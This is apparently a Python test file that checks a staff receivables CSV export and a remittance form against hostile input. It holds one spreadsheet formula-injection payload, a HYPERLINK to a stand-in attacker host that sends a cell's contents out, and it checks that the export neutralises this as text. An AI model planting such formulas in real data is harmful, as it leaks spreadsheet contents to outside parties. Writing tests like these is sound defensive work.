"""Hostile review of /staff/receivables.csv (SPEC §10, §11): a licensee chooses its own name;
one that starts like a formula must reach the spreadsheet as text. The remittance form
refuses hostile amounts with words, never a 500, and stores nothing."""

from __future__ import annotations

import csv
import io

import httpx
from sqlalchemy import func, select, update

from kernel.db import Database
from licensing.models import Merchant
from licensing.receivable_models import Remittance
from tests.factory import StaffWorld
from tests.storefront.console import csrf
from tests.storefront.test_staff_receivables import staff, world  # noqa: F401  (fixtures)

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


async def test_a_formula_licensee_name_is_text_in_the_csv(
    staff: httpx.AsyncClient,  # noqa: F811
    world: StaffWorld,  # noqa: F811
    db: Database,
) -> None:
    async with db.session() as session:
        await session.execute(update(Merchant).values(name=EVIL))
    response = await staff.get("/staff/receivables.csv")
    assert response.status_code == 200
    rows = list(csv.DictReader(io.StringIO(response.text)))
    licensees = [r["licensee"] for r in rows if r["licensee"]]
    assert licensees and all(name == "'" + EVIL for name in licensees)


async def test_hostile_remittances_in_the_form_are_refused_in_words(
    staff: httpx.AsyncClient,  # noqa: F811
    world: StaffWorld,  # noqa: F811
    db: Database,
) -> None:
    page = await staff.get("/staff/receivables")
    token = await csrf(staff, "/staff/receivables")
    agreement = page.text.split('name="agreement_id"', 1)[1].split('value="', 2)[2].split('"')[0]
    for amount in ("9" * 40, "-5", "0", "1e9", "\u0661\u0660", "12.345", str(2**63)):
        response = await staff.post(
            "/staff/receivables/remittances",
            data={
                "csrf_token": token,
                "agreement_id": agreement,
                "amount": amount,
                "currency": "USD",
                "received_on": "2026-02-01",
                "reference": "x",
            },
        )
        assert 400 <= response.status_code < 500, (amount, response.status_code)
    for field, value in (
        ("received_on", "2099-01-01"),
        ("received_on", "2026-02-30"),
        ("agreement_id", "999999999999999999999"),
        ("agreement_id", "x"),
    ):
        data = {
            "csrf_token": token,
            "agreement_id": agreement,
            "amount": "1.00",
            "currency": "USD",
            "received_on": "2026-02-01",
            "reference": "x",
            field: value,
        }
        response = await staff.post("/staff/receivables/remittances", data=data)
        assert 400 <= response.status_code < 500, (field, value, response.status_code)
    async with db.read_session() as session:
        assert await session.scalar(select(func.count()).select_from(Remittance)) == 0
    # and the same form with sound values is recorded (the refusals above were the values')
    good = {
        "csrf_token": token,
        "agreement_id": agreement,
        "amount": "1.00",
        "currency": "USD",
        "received_on": "2026-02-01",
        "reference": "wire",
    }
    assert (await staff.post("/staff/receivables/remittances", data=good)).status_code == 303
    async with db.read_session() as session:
        assert await session.scalar(select(func.count()).select_from(Remittance)) == 1
